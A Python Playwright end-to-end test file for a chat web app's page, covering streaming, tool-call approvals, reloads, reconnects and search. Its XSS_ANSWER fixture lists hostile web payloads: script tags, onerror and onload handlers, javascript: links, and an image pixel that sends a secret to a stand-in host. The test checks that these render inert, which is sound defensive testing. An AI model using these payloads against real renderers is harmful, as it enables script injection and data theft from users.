"""The chat page end to end: a real host, the scripted model server in the test's event
loop, and chromium. Streaming, approvals, stop, reload, reconnect, and hostile model
output that must stay inert (checks E3, F1)."""

from __future__ import annotations

import asyncio
import re
from contextlib import asynccontextmanager
from typing import Any, AsyncIterator
from urllib.parse import urlsplit

from playwright.async_api import expect

from skald_hookspecs import hookimpl
from skald_hookspecs.types import PluginInfo, Tool
from skald_host.testing import BrokenStream, Hang, Reply, ScriptedError, ScriptedModelServer, ToolCall
from skald_host.testing.host import ADMIN_PASSWORD, MEMBER_PASSWORD
from skald_host.web.routes import events as events_routes
from tests.disk import fill

from .kit import PHONE, screenshot, sign_in, stored_conversation

MODEL = "test-model"


class NotesPlugin:
    """A throwaway plugin with one side-effecting tool: the catch-all rule asks first."""

    def __init__(self) -> None:
        self.calls: list[dict[str, Any]] = []

    @hookimpl
    def plugin_info(self) -> PluginInfo:
        return PluginInfo(id="notes", title="Notes", description="Writes notes.", spec=">=1.0,<2")

    @hookimpl
    def register_tools(self, register: Any) -> None:
        async def write_note(args: Any, ctx: Any) -> str:
            self.calls.append(dict(args))
            return f"wrote {len(args.get('text', ''))} characters to {args.get('path')}"

        schema = {"type": "object", "properties": {"path": {"type": "string"}, "text": {"type": "string"}}, "required": ["path"]}
        register(Tool("write_note", "Write a note into the member's notes.", schema, write_note))


async def configure_model(api: Any, server: ScriptedModelServer) -> None:
    provider = await api.post("/api/admin/models/providers", json={"name": "Scripted", "base_url": server.base_url, "api_key": "sk-test"})
    assert provider.status_code == 201, provider.text
    model = await api.post("/api/admin/models/entries", json={"provider_id": provider.json()["id"], "model": MODEL})
    assert model.status_code == 201, model.text


async def add_model(api: Any, model: str, label: str) -> dict[str, Any]:
    """A second model on the provider ``configure_model`` added, tried after the first
    (with two, the chat offers a model picker); its entry."""
    provider = (await api.get("/api/admin/models")).json()["providers"][0]["id"]
    added = await api.post("/api/admin/models/entries", json={"provider_id": provider, "model": model, "label": label, "priority": 90000})
    assert added.status_code == 201, added.text
    return added.json()


async def send(page: Any, text: str) -> None:
    box = page.get_by_role("textbox", name="Message")
    await box.fill(text)
    await box.press("Enter")


async def test_member_sees_tokens_stream_then_the_final_answer(skald, browser_pages):
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        await host.create_member("alice", display_name="Alice")
        words = " ".join(f"word{n}" for n in range(1, 41))
        server.script(MODEL, [Reply(text=f"**Hello** Alice. {words} done.", reasoning="She greeted me; answer warmly.", token_delay=0.05)])

        page = await browser_pages.new(host.url)
        await sign_in(page, "alice", MEMBER_PASSWORD)
        await expect(page.get_by_role("heading", name="Hello, Alice")).to_be_visible()
        box = page.get_by_role("textbox", name="Message")
        await box.type("Hi there!")
        await box.press("Shift+Enter")
        await box.type("How are you?")
        await box.press("Enter")
        await page.wait_for_url("**/#chat/*")
        # Shift+Enter made a line break; the member's text is shown as typed.
        await expect(page.locator(".msg.user .bubble")).to_have_text("Hi there!\nHow are you?")

        partial = await page.wait_for_function(
            """() => {
                const body = document.querySelector(".msg.assistant.streaming .msg-body");
                const text = body ? body.textContent : "";
                return text.includes("word3") ? text : null;
            }""",
            polling=20,
        )
        partial_text = await partial.json_value()
        assert "done." not in partial_text, f"the answer arrived whole, not streamed: {partial_text!r}"
        answer = page.locator(".msg.assistant").last
        await expect(answer.locator(".msg-body")).to_have_text(f"Hello Alice. {words} done.")
        await expect(answer).not_to_have_class("msg assistant streaming")
        await expect(answer.locator(".msg-body strong")).to_have_text("Hello")
        await expect(answer.locator(".caret")).to_have_count(0)
        reasoning = answer.locator("details.reasoning")
        await expect(reasoning).not_to_have_attribute("open", "")
        await expect(reasoning.locator(".reasoning-body")).to_be_hidden()
        await reasoning.locator("summary").click()
        await expect(reasoning.locator(".reasoning-body")).to_have_text("She greeted me; answer warmly.")

        # The model got the member's text; the conversation got a title from it.
        assert server.requests_for(MODEL)[-1].last_user_text == "Hi there!\nHow are you?"
        await expect(page.locator(".conv-list a[aria-current=page]")).to_contain_text("Hi there! How are you?")
        await expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        await screenshot(page, "chat-desktop")

        phone = await browser_pages.new(host.url, viewport=PHONE)
        await sign_in(phone, "alice", MEMBER_PASSWORD)
        await phone.get_by_role("link", name="Hi there! How are you?").click()
        await expect(phone.locator(".msg.assistant .msg-body")).to_contain_text("word40 done.")
        width = await phone.evaluate("document.documentElement.scrollWidth")
        assert width <= PHONE["width"], f"the chat scrolls sideways on a phone ({width}px)"
        await screenshot(phone, "chat-phone", full_page=False)


async def test_a_message_stored_before_its_ack_comes_back_is_drawn_once(skald, browser_pages):
    """The interleaving the first test met once in CI, forced: the new conversation is
    read after the member's message is stored but before the socket's ack reaches the
    page. The read has the stored copy, the outbox still the message: one bubble, then
    as now (the ack, a reload of the tab with the message still unacknowledged)."""
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        await host.create_member("alice", display_name="Alice")
        server.responder = lambda request: Reply(text="Hello Alice.")
        page = await browser_pages.new(host.url)
        sockets: list[Any] = []
        held: list[tuple[Any, str]] = []  # the acks, kept from the page until released
        acked = asyncio.Event()
        release = False

        async def route(ws: Any) -> None:
            to_server = ws.connect_to_server()

            def from_server(message: str | bytes) -> None:
                if not release and isinstance(message, str) and '"type":"ack"' in message.replace(" ", ""):
                    held.append((ws, message))
                    acked.set()
                else:
                    ws.send(message)

            to_server.on_message(from_server)
            sockets.append(ws)

        async def read_once_stored(request_route: Any) -> None:
            if request_route.request.method == "GET":
                await asyncio.wait_for(acked.wait(), 10)  # the message is committed: the read has it
            await request_route.continue_()

        await page.route_web_socket("**/api/ws", route)
        await page.route(lambda url: re.search(r"/api/conversations/[^/?#]+$", urlsplit(url).path) is not None, read_once_stored)
        await sign_in(page, "alice", MEMBER_PASSWORD)
        await send(page, "Only once, please")
        await page.wait_for_url("**/#chat/*")
        user = page.locator(".msg.user")
        await expect(page.locator(".msg.user[data-message-id]")).to_have_count(1)  # the stored copy is drawn ...
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("Hello Alice.")
        await expect(user).to_have_count(1)  # ... and the outbox's is that one, not a second
        await expect(user.locator(".bubble")).to_have_text("Only once, please")
        assert held, "the ack was not held back: the interleaving was not forced"

        # A reload while it is still unacknowledged: the outbox (sessionStorage) sends it
        # again (stored once), and the page reads it stored: still one.
        await page.reload()
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("Hello Alice.")
        await expect(user).to_have_count(1)
        release = True
        for ws, message in held:
            if ws is sockets[-1]:
                ws.send(message)
        await page.wait_for_timeout(300)  # what the acks draw, they have drawn by now
        await expect(user).to_have_count(1)
        await expect(user).not_to_have_attribute("data-state", "sending")
        assert await page.evaluate("Object.keys(sessionStorage).filter((k) => k.startsWith('skald.outbox.')).length") == 0
        await page.reload()
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("Hello Alice.")
        await expect(user).to_have_count(1)
        await expect(user.locator(".bubble")).to_have_text("Only once, please")


async def test_tool_call_waits_for_approval_and_survives_reloads(skald, browser_pages):
    notes = NotesPlugin()
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start(plugins=[notes], enable=["notes"])
        await configure_model(await host.admin(), server)
        await host.create_member("bob", display_name="Bob")
        server.script(MODEL, [
            Reply(reasoning="A note is the right place.", tool_calls=[ToolCall("write_note", {"path": "notes/milk.txt", "text": "buy milk"})]),
            Reply(text="I wrote it down: *buy milk*."),
        ])
        page = await browser_pages.new(host.url)
        await sign_in(page, "bob", MEMBER_PASSWORD)
        await send(page, "Remember to buy milk")

        card = page.locator(".tool-card", has=page.locator("code.tool-name", has_text="write_note"))
        approval = card.get_by_role("group", name="Approval for write_note")
        await expect(approval).to_be_visible()
        await expect(approval.locator(".tool-args")).to_contain_text('"path": "notes/milk.txt"')
        await expect(card.locator(".badge")).to_have_text("Needs your approval")
        await screenshot(page, "chat-approval")
        assert notes.calls == []

        # A reload while the turn waits shows the same card, from the stored approval.
        await page.reload()
        approval = page.get_by_role("group", name="Approval for write_note")
        await expect(approval).to_be_visible()
        await expect(page.get_by_role("button", name="Stop")).to_be_visible()
        await approval.get_by_role("button", name="Approve").click()
        await expect(page.locator(".approval-status")).to_have_text("Approved.")
        answer = page.locator(".msg.assistant").last
        await expect(answer.locator(".msg-body")).to_have_text("I wrote it down: buy milk.")
        card = page.locator(".tool-card").first
        await expect(card.locator(".badge")).to_have_text("Done")
        assert notes.calls == [{"path": "notes/milk.txt", "text": "buy milk"}]
        await card.locator("summary").click()
        await expect(card.locator(".tool-result")).to_have_text("wrote 8 characters to notes/milk.txt")

        # Reloaded from history: messages, the tool card and the reasoning block.
        await page.reload()
        await expect(page.locator(".msg.user .bubble")).to_have_text("Remember to buy milk")
        await expect(page.locator(".msg.assistant .msg-body").last).to_have_text("I wrote it down: buy milk.")
        card = page.locator(".tool-card").first
        await expect(card.locator(".badge")).to_have_text("Done")
        await expect(card.locator(".tool-result")).to_be_hidden()  # collapsed until asked
        await card.locator("summary").click()
        await expect(card.locator(".tool-result")).to_have_text("wrote 8 characters to notes/milk.txt")
        reasoning = page.locator("details.reasoning").first
        await expect(reasoning.locator("summary")).to_contain_text("Reasoning")
        await expect(reasoning).not_to_have_attribute("open", "")
        await reasoning.locator("summary").click()
        await expect(reasoning).to_contain_text("A note is the right place.")
        # The answered card is back as it ended live: its outcome, nothing left to press.
        answered = page.get_by_role("group", name="Approval for write_note")
        await expect(answered.locator(".approval-status")).to_have_text("Approved.")
        await expect(answered.get_by_role("button")).to_have_count(0)
        assert server.pending(MODEL) == 0


async def test_answered_approval_cards_say_the_same_after_a_reload_in_each_language(skald, browser_pages):
    """An approved and a denied card end as a short note; a reload draws both notes from
    history, in the member's language, quietly (the focus stays where the page puts it)."""
    notes = NotesPlugin()
    words = {
        "en": {"label": "Approval for write_note", "approve": "Approve", "deny": "Deny", "outcomes": ["Approved.", "Denied."], "badges": ["Done", "Denied"]},
        "de": {"label": "Zustimmung für write_note", "approve": "Erlauben", "deny": "Ablehnen", "outcomes": ["Erlaubt.", "Abgelehnt."], "badges": ["Erledigt", "Abgelehnt"]},
    }
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start(plugins=[notes], enable=["notes"])
        await configure_model(await host.admin(), server)
        for locale, said in words.items():
            username = f"reader-{locale}"
            await host.create_member(username, locale=locale)
            server.script(MODEL, [
                Reply(tool_calls=[ToolCall("write_note", {"path": "notes/a.txt", "text": "a"})]),
                Reply(tool_calls=[ToolCall("write_note", {"path": "notes/b.txt", "text": "b"})]),
                Reply(text=f"One of two ({locale})."),
            ])
            page = await browser_pages.new(host.url)
            await sign_in(page, username, MEMBER_PASSWORD)
            composer = page.locator(".composer-input")
            await composer.fill("Write notes a and b")
            await composer.press("Enter")
            cards = page.get_by_role("group", name=said["label"])
            await cards.first.get_by_role("button", name=said["approve"]).click()
            await expect(cards).to_have_count(2)
            await cards.nth(1).get_by_role("button", name=said["deny"]).click()
            await expect(page.locator(".msg.assistant .msg-body").last).to_have_text(f"One of two ({locale}).")
            for reload in (False, True):
                if reload:
                    await page.reload()
                    await expect(page.locator(".msg.assistant .msg-body").last).to_have_text(f"One of two ({locale}).")
                await expect(cards.locator(".approval-status")).to_have_text(said["outcomes"])
                await expect(cards.get_by_role("button")).to_have_count(0)
                await expect(page.locator(".tool-card .badge")).to_have_text(said["badges"])
            await expect(page.locator(".approval-status:focus")).to_have_count(0)  # drawn quietly
        assert [c["path"] for c in notes.calls] == ["notes/a.txt", "notes/a.txt"]


@asynccontextmanager
async def carol_waiting_on_a_slow_answer(skald: Any, browser_pages: Any) -> AsyncIterator[tuple[ScriptedModelServer, Any, Any, Any]]:
    """Carol's chat page while an answer streams slowly and never ends (so there is time
    to stop it), its first words shown: the model server, the host, the page and the
    answer. The ways of stopping an answer (the button, Escape) start from here."""
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        await host.create_member("carol")
        server.script(MODEL, [Hang(text="I am thinking very slowly about this question", token_delay=0.1)])
        page = await browser_pages.new(host.url)
        await sign_in(page, "carol", MEMBER_PASSWORD)
        await send(page, "Take your time")
        answer = page.locator(".msg.assistant")
        await expect(answer.locator(".msg-body")).to_contain_text("I am thinking")
        yield server, host, page, answer


async def test_stop_during_a_slow_stream_marks_the_answer_stopped(skald, browser_pages):
    async with carol_waiting_on_a_slow_answer(skald, browser_pages) as (server, host, page, answer):
        stop = page.get_by_role("button", name="Stop")
        await stop.click()
        await expect(answer).to_have_attribute("data-status", "cancelled")
        await expect(answer.locator(".badge")).to_have_text("Stopped")
        await expect(stop).to_be_hidden()
        await server.wait_for_disconnects(1)
        await page.reload()
        answer = page.locator(".msg.assistant")
        await expect(answer.locator(".badge")).to_have_text("Stopped")
        await expect(answer.locator(".msg-body")).to_contain_text("I am thinking")

        # Rename, find it by title, delete it (after a confirmation).
        await page.get_by_role("button", name="Rename").click()
        await page.get_by_role("textbox", name="Title").fill("Slow thoughts")
        await page.get_by_role("button", name="Save").click()
        await expect(page.get_by_role("heading", name="Slow thoughts")).to_be_visible()
        search = page.get_by_role("searchbox", name="Search conversations")
        await search.fill("nothing like it")
        await expect(page.get_by_text("No conversation matches that.")).to_be_visible()
        await search.fill("slow")
        await expect(page.locator(".conv-list").get_by_role("link", name="Slow thoughts")).to_be_visible()
        await page.get_by_role("button", name="Delete").click()
        dialog = page.get_by_role("dialog")
        await expect(dialog).to_contain_text("Delete “Slow thoughts”?")
        await dialog.get_by_role("button", name="Delete").click()
        await expect(page.get_by_role("heading", name="Hello, carol")).to_be_visible()
        # Focus goes where it shows, the fresh message box, not to the page (no ring there).
        await expect(page.get_by_role("textbox", name="Message")).to_be_focused()
        # The search stays until it is cleared (as when a result is opened).
        await expect(search).to_have_value("slow")
        await expect(page.get_by_text("No conversation matches that.")).to_be_visible()
        await search.fill("")
        await expect(page.get_by_text("No conversations yet.")).to_be_visible()

        # The session ends elsewhere: the socket closes and the page asks to sign in.
        admin = await host.admin()
        carol = await host.core.users.find("carol")
        assert (await admin.post(f"/api/admin/members/{carol.id}/end-sessions")).status_code == 200
        await expect(page.get_by_text("Your session has ended (you signed out elsewhere, it expired, or the server restarted). Please sign in again.")).to_be_visible()
        await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


async def test_a_fallback_drops_the_partial_answer_and_the_next_model_answers(skald, browser_pages):
    async with ScriptedModelServer(models=("primary", "backup")) as server:
        host = await skald.start()
        api = await host.admin()
        provider = (await api.post("/api/admin/models/providers", json={"name": "Scripted", "base_url": server.base_url})).json()
        for name, priority in (("primary", 1), ("backup", 2)):
            body = {"provider_id": provider["id"], "model": name, "label": name.title(), "priority": priority}
            assert (await api.post("/api/admin/models/entries", json=body)).status_code == 201
        server.script("primary", [BrokenStream(after_chunks=4, text="a partial answer that never ends", token_delay=0.25)])
        server.script("backup", [Reply(text="From the backup.", first_token_delay=0.3)])
        page = await browser_pages.new(host.url)
        await sign_in(page, "admin", ADMIN_PASSWORD)
        await send(page, "Who answers?")
        # Polled fast: the partial answer is on screen only until the fallback.
        await page.wait_for_function(
            """() => document.querySelector(".msg.assistant.streaming .msg-body")?.textContent.includes("a partial")""", polling=20)
        await expect(page.locator(".msg.note")).to_have_text("Primary did not answer; trying Backup.")
        await expect(page.get_by_text("a partial answer")).to_have_count(0)
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("From the backup.")
        await expect(page.locator(".msg.assistant")).to_have_count(1)

        # A refusal that no other model can help with: the answer is marked failed.
        server.script("primary", [ScriptedError(401, "bad key", should_retry=False)])
        await send(page, "Again?")
        failed = page.locator(".msg.assistant").last
        await expect(failed).to_have_attribute("data-status", "error")
        await expect(failed.locator(".badge")).to_have_text("Failed")
        await expect(failed.locator(".msg-body")).to_have_text(
            "The model refused the request (HTTP 401: bad key). Retrying will not help: check this model and its provider's API key on the Models page.")
        await page.reload()
        await expect(page.locator(".msg.assistant").last.locator(".badge")).to_have_text("Failed")


async def test_message_typed_while_offline_is_sent_once_on_reconnect(skald, browser_pages):
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        api = await host.admin()
        await configure_model(api, server)
        server.script(MODEL, [Reply(text="First answer."), Reply(text="Second answer.")])
        page = await browser_pages.new(host.url)
        sockets: list[Any] = []
        refuse = asyncio.Event()

        async def route(ws: Any) -> None:
            if refuse.is_set():
                await ws.close(code=1011)  # the server is "down": the handshake fails
                return
            ws.connect_to_server()
            sockets.append(ws)

        await page.route_web_socket("**/api/ws", route)
        await sign_in(page, "admin", ADMIN_PASSWORD)
        await send(page, "Hello")
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("First answer.")

        refuse.set()
        await sockets[-1].close(code=1006)
        await expect(page.get_by_text("The connection to the server was lost")).to_be_visible()
        await send(page, "Are you there?")
        pending = page.locator(".msg.user").last
        await expect(pending.locator(".msg-state")).to_contain_text("Waiting for the connection")
        refuse.clear()
        await expect(page.locator(".msg.assistant .msg-body").last).to_have_text("Second answer.", timeout=10_000)
        await expect(page.get_by_text("The connection to the server was lost")).to_be_hidden()
        await expect(page.locator(".msg.user")).to_have_count(2)
        conversation_id = page.url.rsplit("/", 1)[1]
        stored = (await api.get(f"/api/conversations/{conversation_id}")).json()["messages"]
        assert [m["content"] for m in stored if m["role"] == "user"] == ["Hello", "Are you there?"]
        sent = [r.last_user_text for r in server.requests_for(MODEL)]
        assert sent == ["Hello", "Are you there?"]


async def test_a_message_the_full_disk_refused_stays_in_the_outbox_and_is_sent_again(skald, browser_pages, small_disk, monkeypatch):
    """Check G4 from the member's side: the host's data on a real tmpfs that fills up."""
    monkeypatch.setattr(events_routes, "STORAGE_RETRY_SECONDS", 1)
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start(settings=skald.settings("disk/data"))
        api = await host.admin()
        await configure_model(api, server)
        # A new message's first request goes out while it commits (the turn's opening):
        # the one whose commit the full disk refused may have reached the model, and its
        # answer is dropped. Its retries wait for their commit: no request.
        server.script(MODEL, [Reply(text="First answer."), Reply(text="Second answer."), Reply(text="Second answer.")])
        page = await browser_pages.new(host.url)
        await sign_in(page, "admin", ADMIN_PASSWORD)
        await send(page, "Hello")
        await expect(page.locator(".msg.assistant .msg-body")).to_have_text("First answer.")
        # Its tokens show before its end is written; the disk fills once it is (a turn
        # ends, and Stop goes, after its answer's commit): else that commit is refused.
        await expect(page.get_by_role("button", name="Stop")).to_be_hidden()

        filler = fill(small_disk)
        await send(page, "Written while the disk is full")
        pending = page.locator(".msg.user").last
        await expect(pending.locator(".msg-state")).to_contain_text("the server's disk is full")
        await page.wait_for_timeout(1500)  # a retry or two, refused again: still waiting, nothing lost
        await expect(pending.locator(".msg-state")).to_contain_text("sent again by itself")
        filler.unlink()
        await expect(page.locator(".msg.assistant .msg-body").last).to_have_text("Second answer.", timeout=10_000)
        await expect(pending.locator(".msg-state")).to_be_hidden()
        conversation_id = page.url.rsplit("/", 1)[1]
        stored = (await api.get(f"/api/conversations/{conversation_id}")).json()["messages"]
        assert [(m["role"], m["content"]) for m in stored] == [
            ("user", "Hello"), ("assistant", "First answer."), ("user", "Written while the disk is full"), ("assistant", "Second answer."),
        ]
        sent = [r.last_user_text for r in server.requests_for(MODEL)]
        assert sent[0] == "Hello" and sent[1:] in (["Written while the disk is full"] * 2, ["Written while the disk is full"])


XSS_ANSWER = "\n".join((
    "Try [this link](javascript:alert(1)) and [that one](data:text/html,<script>alert(2)</script>).",
    "<script>alert(3)</script> and <img src=x onerror=alert(4)> and <iframe src=\"http://127.0.0.2/frame\"></iframe>",
    "![tracking pixel](http://127.0.0.2/x?secret=hunter2) ![](https://127.0.0.2/y.png)",
    "<svg onload=alert(5)><circle r=10 /></svg> <a href=\"http://127.0.0.2/raw\">raw anchor</a>",
    "<div style=\"background:url(http://127.0.0.2/css)\">styled</div> `<b>code</b>`",
    "[safe](https://example.org/path?q=1) and <http://example.org/auto>",
    "[mixed case](JaVaScRiPt:alert(7)) [spaced]( javascript:alert(8)) [vb](vbscript:msgbox(9)) [rel](//127.0.0.2/proto)",
    "[entity](&#106;avascript:alert(10)) <javascript:alert(11)> [ref][1] ![svg](data:image/svg+xml,<svg onload=alert(12)>)",
    "[1]: javascript:alert(13)",
    "<link rel=stylesheet href=http://127.0.0.2/sheet.css> <meta http-equiv=refresh content=\"0;url=http://127.0.0.2/\">",
    "<object data=http://127.0.0.2/obj></object> <video src=http://127.0.0.2/v.mp4 poster=http://127.0.0.2/p.png>",
    "<base href=http://127.0.0.2/> <form action=http://127.0.0.2/f><button>go</button></form> <math><mtext>x</mtext></math>",
    "- list ![inline](http://127.0.0.2/list.png)",
    "> quote <img src=http://127.0.0.2/quote.png>",
    "Math $\\href{javascript:alert(14)}{click}$ $\\url{http://127.0.0.2/u}$ $x</span><img src=x onerror=alert(16)>$ $\\htmlStyle{background:url(http://127.0.0.2/s)}{y}$",
    "$$\\includegraphics{http://127.0.0.2/m.png}$$",
    "```html",
    "<img src=http://127.0.0.2/in-code>",
    "```",
))


async def test_hostile_assistant_output_renders_inert(skald, browser_pages):
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        await host.create_member("dave")
        server.script(MODEL, [Reply(text=XSS_ANSWER, token_delay=0.002)])
        page = await browser_pages.new(host.url)
        origin = urlsplit(host.url).netloc
        foreign: list[str] = []
        page.on("request", lambda request: foreign.append(request.url) if urlsplit(request.url).netloc != origin else None)
        await sign_in(page, "dave", MEMBER_PASSWORD)
        title = "<img src=x onerror=alert(6)> **hi**"
        await send(page, title)
        answer = page.locator(".msg.assistant .msg-body")
        await expect(answer).to_contain_text("http://127.0.0.2/x?secret=hunter2")
        await expect(page.locator(".msg.assistant")).not_to_have_class("msg assistant streaming")
        await expect(page.locator(".msg.user .bubble")).to_have_text(title)
        await expect(page.locator(".conv-list")).to_contain_text("<img src=x onerror=alert(6)>")
        await expect(answer.get_by_text("<script>alert(3)</script>", exact=False)).to_be_visible()
        await expect(answer.locator(".md-math.rendered .katex").first).to_be_attached()  # KaTeX is loaded on first use

        found = await page.evaluate("""() => {
            const content = document.querySelector("#content");
            const links = [...content.querySelectorAll("a[href]")].filter((a) => a.closest(".msg"));
            return {
                media: content.querySelectorAll("img, svg, iframe, object, embed, video, audio, picture, source, style").length,
                scripts: document.scripts.length,
                // KaTeX sets its own layout through the DOM (math is rendered after sanitising).
                handlers: content.querySelectorAll("[onerror], [onload], [onclick], [style]:not(.katex [style])").length,
                mathLinks: content.querySelectorAll(".katex a, .katex [href]").length,
                links: links.map((a) => [a.getAttribute("href"), a.getAttribute("rel"), a.getAttribute("target")]),
            };
        }""")
        assert found["media"] == 0 and found["scripts"] == 1 and found["handlers"] == 0 and found["mathLinks"] == 0, found
        # Only http(s) URLs become links (bare ones too), each opening a new tab with no
        # referrer or opener; the javascript: and data: links stayed text.
        assert all(href.startswith(("https://", "http://")) and rel == "noopener noreferrer" and target == "_blank"
                   for href, rel, target in found["links"]), found["links"]
        hrefs = [href for href, _, _ in found["links"]]
        assert "https://example.org/path?q=1" in hrefs and "http://example.org/auto" in hrefs
        await expect(answer).to_contain_text("this link (javascript:alert(1)")
        await page.reload()  # rendered from history the same way
        await expect(answer).to_contain_text("Image: tracking pixel")
        await screenshot(page, "chat-xss")
        assert foreign == [], f"requests left the origin: {foreign}"
        assert browser_pages.watch.dialogs == []


async def test_an_answer_cut_by_a_restart_shows_the_note_and_the_new_answer_not_an_empty_bubble(skald, browser_pages):
    """What recovery leaves when a server stopped before the first word: an empty
    interrupted answer, the note saying it is asked for again, the new answer (written
    here as recovery writes them). The page shows the note and the answer only."""
    from skald_host.core.agent.runtime import RESUMED_NOTE
    from skald_host.core.agent.store import reason_json

    host = await skald.start()
    client = await host.member("dana")
    conversation_id = await stored_conversation(host, client.member["id"], "After a restart", [
        ("user", "Hello?"), ("assistant", "", "interrupted"),
        ("note", RESUMED_NOTE, "complete", {"reason": reason_json("answer_resumed")}), ("assistant", "Here it is.")])
    page = await browser_pages.new(host.url)
    await sign_in(page, "dana", MEMBER_PASSWORD)
    await page.goto(f"{host.url}/#chat/{conversation_id}")
    await expect(page.get_by_text("Here it is.")).to_be_visible()
    # Its cut answer is not shown, so the note does not speak of one "here" (crash-kill probe).
    await expect(page.get_by_text("The server stopped (or your session ended) before the answer began")).to_be_visible()
    await expect(page.get_by_text(RESUMED_NOTE)).to_have_count(0)
    await expect(page.locator(".msg.assistant")).to_have_count(1)


async def test_a_regenerate_cut_before_its_first_word_keeps_its_version_switcher(skald, browser_pages):
    """A regenerate killed at once leaves the new version starting with an empty
    interrupted answer, which the page hides; the switcher was drawn on it and went
    with it, so the earlier answer could not be reached (crash-kill probe)."""
    from skald_host.core.agent.runtime import RESUMED_NOTE
    from skald_host.core.agent.store import reason_json

    host = await skald.start()
    client = await host.member("dana")
    conversation_id = await stored_conversation(host, client.member["id"], "Regenerated, then cut", [
        ("user", "Hello?"),
        ("assistant", "The first answer.", "complete", {"variant": 1, "branch_point": "Hello?"}),
        ("assistant", "", "interrupted"),
        ("note", RESUMED_NOTE, "complete", {"reason": reason_json("answer_resumed")}),
        ("assistant", "The second answer.")])
    page = await browser_pages.new(host.url)
    await sign_in(page, "dana", MEMBER_PASSWORD)
    await page.goto(f"{host.url}/#chat/{conversation_id}")
    answer = page.locator(".msg.assistant", has_text="The second answer.")
    await expect(answer.locator(".versions")).to_contain_text("2 / 2")


async def test_a_search_result_opens_at_the_message_that_matched(skald, browser_pages):
    """Not at the end of a long conversation: the matching message is scrolled to,
    marked for a moment and focused (a keyboard goes on from there)."""
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        filler = " ".join(["Lorem ipsum dolor sit amet."] * 25)
        server.responder = lambda request: Reply(text=f"Antwort. {filler}")
        member = await host.member("dora", locale="de")
        first = await member.chat("Eine Frage zu Tieren")
        await member.chat("Wie schlafen Pinguine im Winter?", conversation=first.conversation_id)
        for n in range(8):
            await member.chat(f"Frage {n}", conversation=first.conversation_id)
        page = await browser_pages.new(host.url)
        await sign_in(page, "dora", MEMBER_PASSWORD)
        search = page.get_by_role("searchbox", name="Gespräche durchsuchen")
        await search.fill("pinguine")
        await page.locator(".conv-list .conv-snippet").first.wait_for()
        await page.locator(".conv-list a").first.click()
        hit = page.locator(".msg.user", has_text="Wie schlafen Pinguine im Winter?")
        await expect(hit).to_be_focused()
        await expect(hit).to_have_class(re.compile(r"\bsearch-hit\b"))
        await expect(hit).to_be_in_viewport()
        await expect(page.locator(".msg.assistant").last).not_to_be_in_viewport()
        await expect(hit).not_to_have_class(re.compile(r"\bsearch-hit\b"), timeout=5000)  # marked briefly


async def test_an_unreachable_server_is_said_without_a_stale_nothing_matches(skald, browser_pages):
    async with ScriptedModelServer(models=(MODEL,), api_key="sk-test") as server:
        host = await skald.start()
        await configure_model(await host.admin(), server)
        server.responder = lambda request: Reply(text="Ja.")
        member = await host.member("emil", locale="de")
        await member.chat("Äpfel und Birnen")
        page = await browser_pages.new(host.url)
        await sign_in(page, "emil", MEMBER_PASSWORD)
        search = page.get_by_role("searchbox", name="Gespräche durchsuchen")
        await search.fill("kirschen")
        await expect(page.get_by_text("Kein Gespräch passt dazu.")).to_be_visible()
        await page.route("**/api/conversations*", lambda route: route.abort())  # the server is gone
        await search.fill("")
        await expect(page.locator(".conv-sidebar")).to_contain_text("Der Server ist nicht erreichbar.")
        await expect(page.get_by_text("Kein Gespräch passt dazu.")).to_be_hidden()
        await page.unroute("**/api/conversations*")
        await search.fill("äpfel")
        await expect(page.locator(".conv-list").get_by_role("link", name="Äpfel und Birnen")).to_be_visible()
        await expect(page.locator(".conv-sidebar")).not_to_contain_text("Der Server ist nicht erreichbar.")
